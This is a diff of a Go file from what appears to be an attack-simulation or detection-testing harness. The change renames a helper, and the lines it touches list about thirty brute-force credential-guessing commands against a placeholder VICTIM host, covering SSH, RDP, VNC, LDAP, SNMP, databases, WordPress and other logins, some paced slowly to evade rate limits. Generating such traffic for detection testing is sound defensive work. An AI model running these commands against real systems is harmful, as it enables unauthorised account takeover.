@@ -12,48 +12,43 @@ import (
 
 // otherGuesses: more services, scripts of people's own, many sources, much patience.
 func otherGuesses() []Scenario {
-	row := func(name, service, line string, also ...attack.Class) Scenario {
-		return Scenario{Name: name, Class: attack.BruteForce, Also: also, Limit: 45 * time.Second, Play: func(ctx context.Context, r *Run) error {
-			return guess(ctx, r, service, line)
-		}}
-	}
 	long := func(s Scenario) Scenario { s.Limit = 240 * time.Second; return s }
 	const loop = "while read p; do %s; done < WORDS"
 	each := func(command string) string { return fmt.Sprintf(loop, command) }
 	const web = attack.WebAttack
 	return []Scenario{
-		row("hydra-vnc", "vnc", "hydra -I -t 2 -P WORDS vnc://VICTIM"),
-		row("ncrack-vnc", "vnc", "ncrack -P WORDS vnc://VICTIM:5900"),
-		row("rdp-loop", "rdp", each("timeout 4 xfreerdp /v:VICTIM /u:USER /p:$p +auth-only /cert:ignore /log-level:ERROR")),
-		row("ncrack-rdp", "rdp", "ncrack --user USER -P WORDS rdp://VICTIM:3389"),
-		row("hydra-ldap", "ldap", "hydra -I -t TASKS -l cn=admin,dc=lab -P WORDS ldap2://VICTIM"),
-		row("ldap-loop", "ldap", each("ldapwhoami -x -H ldap://VICTIM -D cn=USER,dc=lab -w $p; sleep 0.3")),
-		row("hydra-sip", "sip", "hydra -I -t 1 -l 100 -P WORDS sip://VICTIM"),
-		row("sip-guess", "sip", "SIP guess VICTIM 100 WORDS 0.2 60"),
-		row("onesixtyone", "snmp", "onesixtyone -c WORDS -w 100 VICTIM"),
-		row("hydra-snmp", "snmp", "hydra -I -t TASKS -P WORDS snmp://VICTIM"),
-		row("nmap-snmp", "snmp", "nmap -n -Pn -sU -p 161 --script snmp-brute --script-args snmp-brute.communitiesdb=WORDS VICTIM", attack.PortScan),
-		row("hydra-smtp", "mail", "hydra -I -t TASKS -l USER -P WORDS smtp://VICTIM"),
-		row("patator-smtp", "mail", "patator smtp_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS"),
-		row("hydra-basic", "portal", "hydra -I -t TASKS -l admin -P WORDS http-get://VICTIM/admin/", web),
-		row("medusa-basic", "portal", "medusa -h VICTIM -u admin -P WORDS -M http -m DIR:/admin/ -t TASKS", web),
-		row("curl-digest", "portal", each("curl -s -o /dev/null --digest -u admin:$p http://VICTIM/private/"), web),
-		row("wp-form", "portal", "WPGUESS form http://VICTIM admin WORDS 0.3", web),
-		row("wp-rpc", "portal", "WPGUESS rpc http://VICTIM admin WORDS 0.3", web),
-		row("wp-multicall", "portal", "WPGUESS multicall http://VICTIM admin WORDS 0.5", web),
-		row("api-login", "portal", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/api/login -X POST -H 'Content-Type: application/json' -d '{\"user\":\"admin\",\"password\":\"FUZZ\"}' -mc 200", web),
-		row("mqtt-loop", "mqtt", each("mosquitto_sub -h VICTIM -u admin -P $p -t '#' -C 1 -W 1")),
-		row("redis-loop", "redis", each("redis-cli -h VICTIM -a $p --no-auth-warning ping")),
-		row("psql-loop", "postgres", each("PGPASSWORD=$p psql -h VICTIM -U postgres -c 'select 1'")),
-		row("mysql-loop", "mariadb", each("mariadb --skip-ssl -h VICTIM -u root -p$p -e 'select 1'")),
-		row("paramiko", "ssh", "SSHGUESS VICTIM USER WORDS 3 0.5"),
-		row("paramiko-single", "ssh", "SSHGUESS VICTIM USER WORDS 1 1.5"),
-		row("hydra-dropbear", "dropbear", "hydra -I -t TASKS -l USER -P WORDS ssh://VICTIM"),
-		row("curl-ftp", "ftp", each("curl -s -m 5 -u USER:$p ftp://VICTIM/; sleep 0.5")),
-		row("telnet-loop", "telnet", each("(sleep 1; echo USER; sleep 0.5; echo $p; sleep 2) | timeout 5 telnet VICTIM")),
-		row("few-ssh", "ssh", "head -12 WORDS | while read p; do sshpass -p $p ssh "+sshOptions+" -o NumberOfPasswordPrompts=1 USER@VICTIM true; sleep 1; done"),
-		long(row("patient-ssh", "ssh", each("sshpass -p $p ssh "+sshOptions+" -o NumberOfPasswordPrompts=1 USER@VICTIM true; sleep $((18 + ${#p}))"))),
-		long(row("patient-form", "portal", each("curl -s -o /dev/null -d \"log=admin&pwd=$p\" http://VICTIM/wp-login.php; sleep $((12 + ${#p}))"), web)),
+		guessing("hydra-vnc", "vnc", "hydra -I -t 2 -P WORDS vnc://VICTIM"),
+		guessing("ncrack-vnc", "vnc", "ncrack -P WORDS vnc://VICTIM:5900"),
+		guessing("rdp-loop", "rdp", each("timeout 4 xfreerdp /v:VICTIM /u:USER /p:$p +auth-only /cert:ignore /log-level:ERROR")),
+		guessing("ncrack-rdp", "rdp", "ncrack --user USER -P WORDS rdp://VICTIM:3389"),
+		guessing("hydra-ldap", "ldap", "hydra -I -t TASKS -l cn=admin,dc=lab -P WORDS ldap2://VICTIM"),
+		guessing("ldap-loop", "ldap", each("ldapwhoami -x -H ldap://VICTIM -D cn=USER,dc=lab -w $p; sleep 0.3")),
+		guessing("hydra-sip", "sip", "hydra -I -t 1 -l 100 -P WORDS sip://VICTIM"),
+		guessing("sip-guess", "sip", "SIP guess VICTIM 100 WORDS 0.2 60"),
+		guessing("onesixtyone", "snmp", "onesixtyone -c WORDS -w 100 VICTIM"),
+		guessing("hydra-snmp", "snmp", "hydra -I -t TASKS -P WORDS snmp://VICTIM"),
+		guessing("nmap-snmp", "snmp", "nmap -n -Pn -sU -p 161 --script snmp-brute --script-args snmp-brute.communitiesdb=WORDS VICTIM", attack.PortScan),
+		guessing("hydra-smtp", "mail", "hydra -I -t TASKS -l USER -P WORDS smtp://VICTIM"),
+		guessing("patator-smtp", "mail", "patator smtp_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS"),
+		guessing("hydra-basic", "portal", "hydra -I -t TASKS -l admin -P WORDS http-get://VICTIM/admin/", web),
+		guessing("medusa-basic", "portal", "medusa -h VICTIM -u admin -P WORDS -M http -m DIR:/admin/ -t TASKS", web),
+		guessing("curl-digest", "portal", each("curl -s -o /dev/null --digest -u admin:$p http://VICTIM/private/"), web),
+		guessing("wp-form", "portal", "WPGUESS form http://VICTIM admin WORDS 0.3", web),
+		guessing("wp-rpc", "portal", "WPGUESS rpc http://VICTIM admin WORDS 0.3", web),
+		guessing("wp-multicall", "portal", "WPGUESS multicall http://VICTIM admin WORDS 0.5", web),
+		guessing("api-login", "portal", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/api/login -X POST -H 'Content-Type: application/json' -d '{\"user\":\"admin\",\"password\":\"FUZZ\"}' -mc 200", web),
+		guessing("mqtt-loop", "mqtt", each("mosquitto_sub -h VICTIM -u admin -P $p -t '#' -C 1 -W 1")),
+		guessing("redis-loop", "redis", each("redis-cli -h VICTIM -a $p --no-auth-warning ping")),
+		guessing("psql-loop", "postgres", each("PGPASSWORD=$p psql -h VICTIM -U postgres -c 'select 1'")),
+		guessing("mysql-loop", "mariadb", each("mariadb --skip-ssl -h VICTIM -u root -p$p -e 'select 1'")),
+		guessing("paramiko", "ssh", "SSHGUESS VICTIM USER WORDS 3 0.5"),
+		guessing("paramiko-single", "ssh", "SSHGUESS VICTIM USER WORDS 1 1.5"),
+		guessing("hydra-dropbear", "dropbear", "hydra -I -t TASKS -l USER -P WORDS ssh://VICTIM"),
+		guessing("curl-ftp", "ftp", each("curl -s -m 5 -u USER:$p ftp://VICTIM/; sleep 0.5")),
+		guessing("telnet-loop", "telnet", each("(sleep 1; echo USER; sleep 0.5; echo $p; sleep 2) | timeout 5 telnet VICTIM")),
+		guessing("few-ssh", "ssh", "head -12 WORDS | while read p; do sshpass -p $p ssh "+sshOptions+" -o NumberOfPasswordPrompts=1 USER@VICTIM true; sleep 1; done"),
+		long(guessing("patient-ssh", "ssh", each("sshpass -p $p ssh "+sshOptions+" -o NumberOfPasswordPrompts=1 USER@VICTIM true; sleep $((18 + ${#p}))"))),
+		long(guessing("patient-form", "portal", each("curl -s -o /dev/null -d \"log=admin&pwd=$p\" http://VICTIM/wp-login.php; sleep $((12 + ${#p}))"), web)),
 		{Name: "many-sources-ssh", Class: attack.BruteForce, Limit: 60 * time.Second, Play: func(ctx context.Context, r *Run) error {
 			return guessTogether(ctx, r, r.Files, "sshpass -p PASSWORD ssh "+sshOptions+" -b SOURCE -o NumberOfPasswordPrompts=1 USER@VICTIM true")
 		}},
